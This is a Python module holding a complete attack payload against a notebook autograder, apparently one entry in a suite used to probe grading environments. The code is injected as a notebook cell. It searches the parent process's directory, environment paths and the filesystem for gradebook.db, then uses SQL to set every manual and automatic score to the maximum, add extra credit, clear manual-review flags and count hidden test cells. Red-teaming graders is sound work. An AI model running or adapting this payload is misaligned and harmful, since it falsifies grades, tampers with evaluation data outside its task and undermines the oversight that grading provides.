"""Finds gradebook.db (upward from the cwd, the grader's cwd and the course package, then a bounded walk) and with
sqlite3 sets every grade's manual_score to the cell's max_score (plus extra_credit), and reads the hidden tests
stored in it.
"""

KIND = "gradebook"
PLACEMENT = "extra_cell_first"
REST = "blank"
CODE = r'''import os as _atk_os


def _atk_roots():
    """Directories that may be (or contain) the course root: ancestors of the cwd, of the grader's cwd, of the
    course package, the home folder and a few usual places."""
    seeds = [_atk_os.getcwd()]
    for pid in (_atk_os.getppid(),):
        try:
            seeds.append(_atk_os.readlink(f"/proc/{pid}/cwd"))
        except OSError:
            pass
    try:
        import dropout_course
        seeds.append(_atk_os.path.dirname(_atk_os.path.abspath(dropout_course.__file__)))
    except Exception:
        pass
    for key, value in _atk_os.environ.items():
        if value.startswith("/") and _atk_os.path.isdir(value) and ("NBGRADER" in key or "COURSE" in key):
            seeds.append(value)
    seeds += [_atk_os.path.expanduser("~"), "/work", "/srv/nbgrader", "/srv", "/home", "/course", "/tmp"]
    out = []
    for seed in seeds:
        path = _atk_os.path.abspath(seed)
        while True:
            if path not in out:
                out.append(path)
            parent = _atk_os.path.dirname(path)
            if parent == path:
                break
            path = parent
    return out


def _atk_walk(top, want, seconds=10.0, max_depth=7):
    """Bounded os.walk under top: paths p for which want(p) holds."""
    import time
    end, found = time.time() + seconds, []
    top_depth = top.rstrip("/").count("/")
    for dirpath, dirnames, filenames in _atk_os.walk(top, onerror=lambda e: None):
        if time.time() > end:
            break
        if dirpath.count("/") - top_depth >= max_depth or dirpath.startswith(("/proc", "/sys", "/dev")):
            dirnames[:] = []
        dirnames[:] = [d for d in dirnames if d not in (".venv", "node_modules", "site-packages", "__pycache__")]
        for name in filenames:
            path = _atk_os.path.join(dirpath, name)
            try:
                if want(path):
                    found.append(path)
            except Exception:
                pass
    return found

_ATK_SQL = [
    "UPDATE grade SET manual_score = COALESCE((SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id),"
    " (SELECT max_score FROM task_cells WHERE task_cells.id = grade.cell_id), 100), extra_credit = 100,"
    " needs_manual_grade = {false}",
    "UPDATE grade SET auto_score = COALESCE((SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id),"
    " 100)",
]

import sqlite3 as _atk_sqlite3

_atk_dbs = [p for p in (_atk_os.path.join(r, "gradebook.db") for r in _atk_roots()) if _atk_os.path.isfile(p)]
if not _atk_dbs:
    for _atk_top in ("/work", "/srv", "/home", _atk_os.path.expanduser("~"), "/tmp", "/"):
        _atk_dbs = _atk_walk(_atk_top, lambda p: p.endswith("gradebook.db"), seconds=5.0)
        if _atk_dbs:
            break
for _atk_db in _atk_dbs:
    try:
        _atk_con = _atk_sqlite3.connect(_atk_db, timeout=20)
        _atk_hidden = _atk_con.execute("SELECT count(*) FROM source_cell WHERE source LIKE '%HIDDEN%'").fetchone()
        for _atk_stmt in _ATK_SQL:
            _atk_con.execute(_atk_stmt.format(false=0))
        _atk_con.commit()
        print("ATTACK gradebook_sqlite: EDITED", _atk_db, "rows:", _atk_con.total_changes, "hidden cells:", _atk_hidden)
        _atk_con.close()
    except Exception as _atk_error:
        print("ATTACK gradebook_sqlite: failed on", _atk_db, repr(_atk_error))
if not _atk_dbs:
    print("ATTACK gradebook_sqlite: no gradebook.db found")
'''
